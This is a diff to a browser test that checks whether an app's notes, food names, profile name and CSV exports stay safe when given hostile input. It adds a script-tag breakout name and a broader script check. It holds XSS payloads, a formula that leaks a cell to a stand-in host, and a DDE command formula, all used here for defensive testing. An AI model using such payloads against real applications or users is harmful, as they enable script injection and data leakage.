@@ -24,6 +24,7 @@ const SCRIPT_NOTE = '<img src=x onerror="window.__stillwellPwned=1"><script>wind
 const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 const SCRIPT_FOOD = '<svg onload="window.__stillwellPwned=3"> soup'
 const FORMULA_FOOD = "=cmd|' /C calc'!A0 stew"
+const SCRIPT_NAME = '</script><script>window.__stillwellPwned=4</script>'
 
 test('hostile text in notes and food names shows as plain text, runs nothing, and is defused in CSV exports', async ({ page, harness }) => {
   await page.goto(harness.url)
@@ -61,7 +62,13 @@ test('hostile text in notes and food names shows as plain text, runs nothing, an
   const shoppingText = readFileSync((await shoppingCsv.path())!, 'utf8')
   expect(shoppingText).toContain(`"'${FORMULA_FOOD}"`)
 
+  // The name comes inside the page's HTML on every load (the settings the first screen needs): still only text.
+  await invoke(page, 'settings.update', { profile: { name: SCRIPT_NAME } })
+  await page.goto(`${harness.url}/#/today`)
+  await page.reload()
+  await expect(page.getByRole('heading', { level: 1 })).toContainText(SCRIPT_NAME)
+
   // Nothing ran, and nothing the payloads asked for made it into the page as markup.
   expect(await page.evaluate(() => (window as unknown as Record<string, unknown>)['__stillwellPwned'] ?? null)).toBeNull()
-  expect(await page.locator('img[onerror], svg[onload], body script:not([src])').count()).toBe(0)
+  expect(await page.locator('img[onerror], svg[onload], body script:not([src]), head script:not([src]):not([type="application/json"])').count()).toBe(0)
 })
